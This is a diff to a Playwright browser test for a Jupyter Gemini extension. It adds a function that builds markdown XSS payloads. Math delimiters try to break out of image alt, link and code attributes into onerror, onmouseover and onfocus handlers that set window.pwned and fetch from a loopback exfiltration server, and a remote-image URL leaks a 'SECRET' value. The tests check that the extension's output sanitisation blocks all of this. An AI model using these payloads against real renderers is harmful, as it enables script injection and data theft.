@@ -25,9 +25,14 @@ from lab import CHROMIUM, CHROMIUM_ARGS, Lab
 ARTIFACTS = Path(__file__).parent / "artifacts"
 
 if not Path(CHROMIUM).exists():
-    if os.environ.get("CI"):
-        raise RuntimeError(f"browser tests need Chromium at {CHROMIUM} (tests/run.sh installs it)")
-    pytest.skip(f"no Chromium at {CHROMIUM}: run bash tests/run.sh, which installs it", allow_module_level=True)
+    FIX = (
+        "GEMINI_MAGIC_CHROMIUM points there; set it to a Chromium binary, or unset it and run bash tests/run.sh"
+        if "GEMINI_MAGIC_CHROMIUM" in os.environ
+        else "run bash tests/run.sh, which installs it (or set GEMINI_MAGIC_CHROMIUM to a Chromium binary)"
+    )
+    if os.environ.get("CI", "").lower() not in ("", "0", "false"):
+        raise RuntimeError(f"browser tests need Chromium at {CHROMIUM}: {FIX}")
+    pytest.skip(f"no Chromium at {CHROMIUM}: {FIX}", allow_module_level=True)
 sync_api = pytest.importorskip("playwright.sync_api")
 
 RICH_REST = (
@@ -69,6 +74,26 @@ def hostile_reply() -> Reply:
         "modelVersion": "gemini-test-001",
     }
     return Reply([f"data: {json.dumps(event)}\r\n\r\n".encode()])
+
+
+def math_payloads(exfil: str) -> str:
+    """Math spans inside an image's alt, a link's text and title, and code, in all three math forms.
+
+    Each tries to break out of its attribute into an event handler that sets ``window.pwned`` and
+    fetches from *exfil* (a second loopback server); the images themselves point there too.
+    """
+    handler = f"window.pwned='math';fetch('{exfil}/handler')"
+    return (
+        "".join(
+            f'![{o}" onerror="{handler}" x="{c}]({exfil}/img-{n}.png) '
+            f'[link {o}" onmouseover="{handler}" x="{c}]({exfil}/link "{o}" onfocus="{handler}" x="{c}") '
+            f'`{o}" onerror="{handler}" {c}`\n\n'
+            for n, (o, c) in enumerate((("$$", "$$"), ("\\(", "\\)"), ("$a", "b$")))
+        )
+        + "Remote image: ![leak]("
+        + exfil
+        + "/leak?d=SECRET) end of math payloads."
+    )
 
 
 @pytest.fixture(scope="module")
@@ -122,6 +147,7 @@ def cell(page: Any, index: int) -> Any:
     return page.locator(".jp-Notebook .jp-CodeCell").nth(index)
 
 
+@pytest.mark.needs_fixtures
 def test_live_stream_final_output_and_reload(page: Any, lab: Lab, gemini: GeminiTestServer) -> None:
     ARTIFACTS.mkdir(exist_ok=True)
     dialogs: list[str] = []
@@ -129,11 +155,13 @@ def test_live_stream_final_output_and_reload(page: Any, lab: Lab, gemini: Gemini
     gate = threading.Event()
     rich = sse(text_events(["First words arrive now.\n\n", RICH_REST]))
     rich.steps.insert(1, gate)
+    exfil = GeminiTestServer().start()  # what a payload would reach if it ran or loaded
     gemini.push(
         rich,
         json_reply(fixture_bytes("pydantic-ai__image-output-inlineData_gemini-2.5-flash-image.json")),
         fixture_sse("pydantic-ai__google-search-grounding_gemini-2.5-pro.sse"),
         hostile_reply(),
+        sse(text_events(["Math payloads:\n\n", math_payloads(exfil.url)])),
     )
     cells = [
         "%load_ext gemini_magic",
@@ -141,6 +169,7 @@ def test_live_stream_final_output_and_reload(page: Any, lab: Lab, gemini: Gemini
         "%%gemini -m gemini-2.5-flash-image --image --no-stream\nDraw an axolotl",
         "%%gemini -m gemini-2.5-pro --search\nWeather in London?",
         "%%gemini --search\nBe hostile",
+        "%%gemini\nMath in attributes",
     ]
     write_notebook(lab.root / "demo.ipynb", cells)
     open_notebook(page, lab, "demo.ipynb")
@@ -184,12 +213,19 @@ def test_live_stream_final_output_and_reload(page: Any, lab: Lab, gemini: Gemini
     assert "allow-scripts" not in frame.get_attribute("sandbox")
     assert page.frame_locator("iframe.gm-search-suggestions").first.locator("body").inner_text(timeout=10_000).strip()
 
-    # Hostile output ran nothing.
+    # Hostile output ran nothing: no handler fired, no request left the page.
     hostile = cell(page, 4).locator(".gemini-magic")
     sync_api.expect(hostile).to_contain_text("done.")
+    math = cell(page, 5).locator(".gemini-magic")
+    sync_api.expect(math).to_contain_text("end of math payloads.")
+    assert math.locator("img").count() == 0 and math.locator("a.gm-remote-image").count() == 4
+    assert math.locator("a.gm-remote-image").last.inner_text() == "🖼 leak"
+    for link in math.locator("a").all():
+        link.hover()  # an injected onmouseover would fire now
     page.wait_for_timeout(500)
     assert page.evaluate("window.pwned") is None
     assert dialogs == []
+    assert exfil.requests == [], [r.path for r in exfil.requests]
     first.scroll_into_view_if_needed()
     page.screenshot(path=str(ARTIFACTS / "final.png"))
 
@@ -208,5 +244,10 @@ def test_live_stream_final_output_and_reload(page: Any, lab: Lab, gemini: Gemini
     cell(page, 3).scroll_into_view_if_needed()
     cell(page, 3).locator("sup.gm-cite a").first.wait_for(timeout=30_000)
     assert cell(page, 3).locator("sup.gm-cite a").count() >= 8
+    cell(page, 5).scroll_into_view_if_needed()
+    sync_api.expect(cell(page, 5).locator(".gemini-magic")).to_contain_text("end of math payloads.", timeout=30_000)
+    page.wait_for_timeout(500)
     assert page.evaluate("window.pwned") is None and dialogs == []
+    assert exfil.requests == [], [r.path for r in exfil.requests]
+    exfil.stop()
     page.screenshot(path=str(ARTIFACTS / "reloaded.png"))
